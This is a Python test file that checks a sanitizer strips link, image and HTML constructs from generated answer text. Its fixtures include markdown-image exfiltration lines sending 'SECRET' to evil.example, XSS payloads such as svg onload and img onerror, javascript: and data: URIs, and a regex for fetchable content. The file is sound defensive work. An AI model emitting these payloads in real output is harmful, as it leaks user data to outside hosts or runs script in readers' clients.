"""Answer text never carries anything a client would fetch, however the pieces are mixed."""

from __future__ import annotations

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from townsquare.answer.sanitize import clean_text

FETCHABLE = re.compile(
    r"https?:|www\.|javascript:|data:|\]\(|!\[|<\s*/?\s*(?:iframe|svg|video|img|a|image|style|"
    r"script|object|embed|link|meta|div)\b|url\s*\(|\]:\s*\S",
    re.IGNORECASE,
)
PIECES = [
    "![x](http://evil.example/leak?q=SECRET)", "![p][r]", "[r]: http://evil.example/ref.png",
    "[click](https://evil.example/l)", "[text][ref]", "<iframe src=http://evil.example/f>",
    "</iframe>", "<svg onload=alert(1)><image href=http://evil.example/s /></svg>",
    "<video poster=http://evil.example/v.png>", "<div style=\"background:url(http://e.x/c)\">",
    "<http://evil.example/auto>", "www.evil.example/p", "evil.example/path?q=1",
    "&lt;img src=x onerror=alert(1)&gt;", "<img src='https://evil.example/p.gif'>",
    "javascript:alert(1)", "data:image/png;base64,AAAA", "<a href=\"http://x.example\">",
    "The strike is over", "Grève : « c'est fini »", "[1]", " ", "\n", "3.5%", "(see below)",
]


def test_known_vectors_are_removed_and_text_kept() -> None:
    assert clean_text("Fini ![x](http://evil.example/a) pour de bon") == "Fini pour de bon"
    assert clean_text("Read [the report](https://x.example/r) now") == "Read the report now"
    assert clean_text("Vote <b>today</b> at 3 pm") == "Vote today at 3 pm"
    assert clean_text("Le ministre : « on tient » !") == "Le ministre : « on tient » !"
    assert clean_text("Prices up 3.5% since 2024") == "Prices up 3.5% since 2024"


@settings(max_examples=1000, deadline=None)
@given(st.lists(st.sampled_from(PIECES), min_size=1, max_size=8), st.sampled_from(["", " ", "\n"]))
def test_no_mix_of_pieces_leaves_anything_fetchable(pieces: list[str], sep: str) -> None:
    out = clean_text(sep.join(pieces))
    assert not FETCHABLE.search(out), out
    assert "SECRET" not in out and "evil" not in out
